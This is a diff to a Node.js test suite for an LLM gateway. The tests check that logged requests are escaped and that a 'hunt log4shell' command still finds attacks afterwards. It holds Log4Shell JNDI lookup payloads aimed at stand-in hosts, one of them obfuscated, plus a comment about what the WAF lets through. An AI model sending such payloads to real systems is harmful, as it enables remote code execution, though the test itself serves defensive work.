@@ -2,7 +2,8 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import OpenAI from 'openai';
-import { startGateway, startFakeProvider } from './lib/harness.mjs';
+import { execFileSync } from 'node:child_process';
+import { startGateway, startFakeProvider, parapetBin } from './lib/harness.mjs';
 import { request, waitFor } from './lib/util.mjs';
 
 let fake;
@@ -122,14 +123,29 @@ test('answers under block: a stream ends with an error event at the finding; a w
 test('safe logs: stored records never carry a live ${ lookup, and the hunt form restores it', async () => {
   const attack = '${jndi:ldap://evil.example/a}';
   const r = await request(`${gw.url}/plain/openai/chat/completions`, {
-    method: 'POST', headers: { ...json, 'x-parapet-metadata': JSON.stringify({ ua: attack }) }, body: chat(`explain ${attack}`),
+    // The attack in a header would be blocked by the WAF; a shell default in metadata is not.
+    method: 'POST', headers: { ...json, 'x-parapet-metadata': JSON.stringify({ ua: '${HOME:-/root}' }) }, body: chat(`explain ${attack}`),
   });
   assert.equal(r.status, 200);
   const rec = await record(r.headers['x-parapet-log-id']);
   const raw = JSON.stringify(rec);
   assert.ok(!raw.includes('${'), 'no live lookup anywhere in the stored record');
   assert.ok(rec.request_body.includes('$%7Bjndi:ldap://evil.example/a}'));
-  assert.equal(rec.metadata.ua, '$%7Bjndi:ldap://evil.example/a}');
+  assert.equal(rec.metadata.ua, '$%7BHOME:-/root}');
+  assert.match(rec.waf_action, /log/, 'the prompt was flagged by the WAF, not blocked');
   const tail = await request(`${gw.adminUrl}/logs?limit=5&format=jsonl`, { method: 'GET' });
   assert.ok(!tail.text.includes('${'));
+});
+
+test('the retro-hunt still finds an attack whose stored body was safe-logged', async () => {
+  const attack = '${${lower:j}ndi:ldap://hunt.example/x}';
+  const r = await request(`${gw.url}/plain/openai/chat/completions`, { method: 'POST', headers: json, body: chat(`what is ${attack}`) });
+  assert.equal(r.status, 200);
+  const rec = await record(r.headers['x-parapet-log-id']);
+  assert.ok(!rec.request_body.includes('${'));
+  const out = execFileSync(parapetBin(), ['rules', '--admin', gw.adminUrl.replace('http://', ''), '--json', 'hunt', 'log4shell', '--since', '1h'],
+    { encoding: 'utf8' });
+  const hunt = JSON.parse(out);
+  assert.ok(hunt.matched >= 1, out);
+  assert.equal(hunt.last_id, r.headers['x-parapet-log-id']);
 });
